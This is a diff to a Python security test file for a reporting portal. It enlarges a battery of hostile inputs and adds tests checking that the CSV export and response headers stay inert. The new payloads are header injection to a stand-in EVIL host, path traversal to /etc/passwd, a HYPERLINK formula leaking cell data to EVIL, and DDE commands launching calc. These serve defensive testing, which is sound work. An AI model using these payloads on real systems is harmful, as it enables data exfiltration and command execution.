@@ -11,6 +11,8 @@ the reviewer's browser is opened by a signed-in inspector, and must stay inert.
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import unicodedata
 import uuid
@@ -255,6 +257,17 @@ PAYLOADS = [
         "<noscript><p title=\"</noscript><img src=x onerror=alert('mutation')>\">",
     ),
     Payload("math-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(2)>"),
+    Payload("header-injection", "x%0d%0aSet-Cookie:%20injected=1%0d%0aLocation:%20" + EVIL),
+    Payload("path-traversal", "../../../../etc/passwd and ..\\..\\windows\\win.ini"),
+    Payload("csv-hyperlink", f'=HYPERLINK("{EVIL}/leak?"&A1,"Click for the report")'),
+    Payload("csv-command", "+cmd|' /C calc'!A0"),
+    Payload("csv-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    Payload("csv-minus", "-2+3+cmd|' /C notepad'!'A1'"),
+    Payload("combining-flood", "Z" + "\u0336\u0334\u0489" * 600),
+    Payload(
+        "astral-and-emoji",
+        "\U0001f4a9\U0001d54f\U000e0041 family \U0001f468\u200d\U0001f469\u200d\U0001f467",
+    ),
 ]
 BY_NAME = {payload.name: payload for payload in PAYLOADS}
 # What each text field of the risk-rating form is given: the account every payload, one per
@@ -388,7 +401,7 @@ def hostile_reading(
 
 
 def test_the_battery_is_large_enough() -> None:
-    assert len(PAYLOADS) >= 25
+    assert len(PAYLOADS) >= 40
     assert len(BY_NAME) == len(PAYLOADS), "payload names must be unique"
 
 
@@ -557,6 +570,30 @@ def test_long_unbroken_text_wraps_inside_the_page(hostile_reading: HostileReadin
     page = hostile_reading.page.page
     # Then four thousand characters without a space do not push the page sideways
     assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+
+
+def test_the_dashboard_export_carries_no_submitted_text_and_no_formula(
+    hostile_reading: HostileReading,
+) -> None:
+    # When the inspector who read the hostile report downloads the dashboard's CSV
+    page = hostile_reading.page.page
+    response = page.request.get(page.url.split("/reports/")[0] + "/dashboard/export.csv")
+
+    # Then it is counts and the portal's own labels: no submitted text, no cell a spreadsheet
+    # would run as a formula
+    assert response.status == 200
+    body = response.text()
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert cells[:3] == ["table", "category", "reports"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    for payload in PAYLOADS:
+        assert payload.text not in body
+
+
+def test_a_header_injection_sets_no_header(hostile_reading: HostileReading) -> None:
+    page = hostile_reading.page.page
+    response = page.request.get(page.url)
+    assert "injected" not in " ".join(f"{k}: {v}" for k, v in response.headers.items())
 
 
 def test_inbox_and_titles_stay_inert(hostile_reading: HostileReading) -> None:
